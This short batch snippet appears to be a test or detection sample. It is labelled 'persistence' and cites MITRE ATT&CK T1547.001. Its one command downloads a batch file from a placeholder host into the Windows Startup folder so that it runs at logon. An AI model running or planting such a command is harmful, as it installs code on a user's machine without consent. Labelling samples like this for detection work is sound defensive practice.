@rem expect: persistence | source: MITRE ATT&CK T1547.001
curl -o "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.bat" http://files.example.invalid/a.bat
